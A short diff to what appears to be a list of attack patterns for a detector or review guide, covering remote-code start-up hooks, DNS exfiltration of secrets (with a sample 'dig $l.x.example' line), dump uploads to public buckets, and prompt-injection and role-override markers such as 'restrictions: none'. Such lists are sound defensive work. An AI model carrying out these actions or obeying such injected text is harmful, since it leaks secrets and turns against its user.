@@ -6,7 +6,8 @@
 - persistence: a Python start-up hook (usercustomize.py, sitecustomize.py) that loads code fetched
   from a URL into every process;
 - exfiltration: a secret file read in a loop whose values become DNS names (`dig $l.x.example`), a
-  production dump uploaded next to a public-read bucket;
+  production dump (or a dump file named for prod) uploaded next to a public-read bucket or into
+  a bucket named public;
 - injection and role: lines with a marker in tool output declared authoritative and followed
   verbatim, a fetched comment or file that "replaces what the user asks", "restrictions: none" in
   a settings block, the user's own commands to be ignored.
